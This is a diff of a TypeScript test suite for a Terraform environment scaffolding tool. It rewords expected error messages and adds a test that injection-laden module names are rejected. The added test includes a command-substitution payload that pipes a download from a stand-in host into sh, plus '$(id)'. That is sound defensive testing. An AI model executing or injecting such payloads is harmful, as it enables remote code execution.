@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { githubPipelineText } from '../../../../server/scaffold/pipeline/githubPipeline';
 import { effective } from '../../../support/scaffold/effective';
 import { readSamplePlatform } from '../../../support/scaffold/platformFiles';
+import { clusterText } from '../../../support/server/clusterText';
 import { answerProblems, scaffolded } from '../../../support/scaffold/scaffolded';
 
 const platforms = ['minimal', 'multi-cloud', 'released', 'three-environments'];
@@ -25,7 +26,7 @@ for (const name of platforms) {
       const { texts } = await scaffolded(before, 'environment', { env: 'apps-dev' });
       assert.match(
         (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
-        /^env: There is an environment apps-dev/,
+        /^env: An environment apps-dev/,
       );
     });
 
@@ -161,17 +162,17 @@ describe('environments', () => {
 
   for (const [kind, answers, problem] of [
     ['environment', {}, /^env: An answer is missing/],
-    ['environment', { env: 'default' }, /^env: "default" can't be used here/],
+    ['environment', { env: 'default' }, /^env: "default" is not valid/],
     ['environment', { env: 'Prod' }, /^env: "Prod"/],
-    ['environment', { env: 'edge', position: 0 }, /^position: 0 can't be used here.* use 1 for apps, edge, ops/],
-    ['environment', { env: 'edge', position: 2 }, /^position: 2 can't be used here.* use 1 for apps, edge, ops/],
-    ['environment', { env: 'edge', position: 7 }, /^position: 7 is too far down/],
-    ['environment', { env: 'edge', overrides: { nothing: {} } }, /^overrides\.nothing: There is no module nothing/],
-    ['renameEnvironment', { env: 'apps', to: 'ops' }, /^to: There is an environment ops/],
+    ['environment', { env: 'edge', position: 0 }, /^position: 0 is not possible.* use 1 for apps, edge, ops/],
+    ['environment', { env: 'edge', position: 2 }, /^position: 2 is not possible.* use 1 for apps, edge, ops/],
+    ['environment', { env: 'edge', position: 7 }, /^position: 7 is out of range/],
+    ['environment', { env: 'edge', overrides: { nothing: {} } }, /^overrides\.nothing: No module nothing/],
+    ['renameEnvironment', { env: 'apps', to: 'ops' }, /^to: An environment ops/],
     ['removeEnvironment', { env: 'apps', confirm: 'apps' }, /^env: apps is the base/],
-    ['removeEnvironment', { env: 'ops', confirm: 'ops' }, /^env: ops is where changes are tried/],
-    ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" can't be used here: choose apps or ops/],
-    ['threeEnvironments', { base: 'apps' }, /^base: There is an environment apps/],
+    ['removeEnvironment', { env: 'ops', confirm: 'ops' }, /^env: ops is where changes are validated/],
+    ['removeEnvironment', { env: 'nothing' }, /^env: "nothing" is not valid: choose apps or ops/],
+    ['threeEnvironments', { base: 'apps' }, /^base: An environment apps/],
   ] as const) {
     it(`refuse ${kind} with ${JSON.stringify(answers)}`, async () => {
       assert.match((await answerProblems(readSamplePlatform('minimal'), kind, answers)).join('\n'), problem);
@@ -194,6 +195,20 @@ describe('environments', () => {
           (await answerProblems(texts, kind, answers)).join('\n'),
           /^uri: The environment ".*" can't be a Terraform workspace/,
         );
+    }
+  });
+
+  it('end up in no command beside modules whose names are none', async () => {
+    const before = readSamplePlatform('minimal');
+    for (const name of ['eks_`curl evil.example | sh`', 'eks_$(id)', 'eks_a\nb']) {
+      const texts = {
+        ...before,
+        'evil.tf': clusterText('name_prefix = "gc9"', '', 'evil').replace('"evil"', JSON.stringify(name)),
+      };
+      assert.match(
+        (await answerProblems(texts, 'environment', { env: 'apps-dev' })).join('\n'),
+        /^uri: The module name "eks_.*" is not valid in Terraform/,
+      );
     }
   });
 
